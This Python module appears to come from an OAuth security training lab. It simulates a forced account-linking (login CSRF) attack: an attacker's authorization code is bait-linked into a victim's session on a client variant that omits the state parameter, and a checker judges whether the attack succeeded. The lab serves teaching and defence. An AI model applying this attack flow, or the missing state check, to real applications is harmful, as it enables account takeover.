"""Lab "forced-linking": the attacker's code, finished in the victim's session,
links the attacker's profile to the victim's account; the attacker then signs in
with it (RFC 6749 §10.12, RFC 9700 §4.7)."""

from __future__ import annotations

import secrets
from collections.abc import Mapping
from urllib.parse import parse_qs
from urllib.parse import urlencode
from urllib.parse import urlsplit

from flowlab.core.runner.capture import exchange_of
from flowlab.labs import client
from flowlab.labs import scripted
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.store import Run

ATTACKER_USER = "bob"
VICTIM_ACCOUNT = "Alice's GigBoard account"


def _params(run: Run, lab: Lab, config: Mapping, state: str) -> dict:
    """The linking request; the vulnerable client sends no state at all."""
    params = client.authorize_params(run, config, state)
    if not lab.variants[run.variant].check_state:
        del params["state"]
    return params


def start_login(run: Run, lab: Lab, config: Mapping) -> str:
    """The victim links an account of her own: the framework's request, without
    state in the vulnerable variant (RFC 6749 §4.1.1)."""
    state = run.client["state"] = secrets.token_urlsafe(24)
    return (client.authorize_url(run, lab) + "?"
            + urlencode(_params(run, lab, config, state)))


def prepare(run: Run, lab: Lab, config: Mapping) -> None:
    """The attacker starts linking his own account, as Bob, and keeps the redirect
    back unfollowed (its state, if any, is his own session's)."""
    params = _params(run, lab, config, secrets.token_urlsafe(24))
    run.attacker["link"] = scripted.code_for(run, config, params, ATTACKER_USER)


def _code(run: Run) -> str | None:
    return parse_qs(urlsplit(run.attacker.get("link", "")).query).get(
        "code", [None])[0]


def _linked_by_force(run: Run) -> bool:
    """A callback in the victim's session brought Bob's code, and GigBoard read
    Bob's account with the token it got for it."""
    code = _code(run)
    redeemed = [e for e in run.entries("token") if code and wire.form(e).get("code")
                == code]
    return any(wire.account(run, token) == ATTACKER_USER for token in redeemed)


def attacker_act(run: Run, lab: Lab, config: Mapping) -> None:
    """Bob signs in to GigBoard with the sandbox, as himself: GigBoard redeems his
    fresh code and opens the GigBoard account linked to his profile."""
    if run.entries("attacker-me") or not _linked_by_force(run):
        return
    params = client.authorize_params(run, config, secrets.token_urlsafe(24))
    where = scripted.code_for(run, config, params, ATTACKER_USER)
    code = parse_qs(urlsplit(where).query).get("code", [""])[0]
    form = {"grant_type": "authorization_code", "code": code,
            "redirect_uri": client.redirect_uri(run)}
    session, response = client.token_request(run, lab, config, form)
    run.record("attacker-token", "attacker", "back",
               exchange_of(session, response))
    if response.ok:
        client.call_me(run, config, response.json()["access_token"],
                       key="attacker-me", actor="attacker")


def attacker_view(run: Run, lab: Lab) -> dict:
    """The bait; once Bob's profile is linked, his sign-in; then what opened."""
    if not _linked_by_force(run):
        return {"link": run.attacker.get("link"),
                "link_text": "Claim your free festival ticket"}
    token = run.entries("attacker-token")
    if not token:
        return {"heading": "Bob's profile is linked to someone's GigBoard account",
                "text": "Bob signs in to GigBoard with the sandbox, as himself:",
                "leaked": "Sign in with the sandbox, as Bob Okafor",
                "button": "Sign in to GigBoard as Bob"}
    opened = wire.account(run, token[-1], "attacker-me") == ATTACKER_USER
    return {"heading": "Bob signed in to GigBoard with his sandbox account",
            "text": "GigBoard opened the account linked to Bob's profile:",
            "shown": VICTIM_ACCOUNT if opened else "none: the sign-in failed"}


def succeeded(run: Run) -> bool | None:
    """On the wire: did a callback bring Bob's code into the victim's session, and
    did GigBoard read Bob's account with it (True, the link)? False when such a
    callback led to no token request; None until Bob's code arrives (linking an
    account of the victim's own, or a cancelled one, decides nothing)."""
    code = _code(run)
    forged = code and [e for e in run.entries("callback")
                       if wire.query(e).get("code") == code]
    if not forged:
        return None
    if _linked_by_force(run):
        return True
    redeemed = [e for e in run.entries("token") if wire.form(e).get("code") == code]
    return False if not redeemed else None
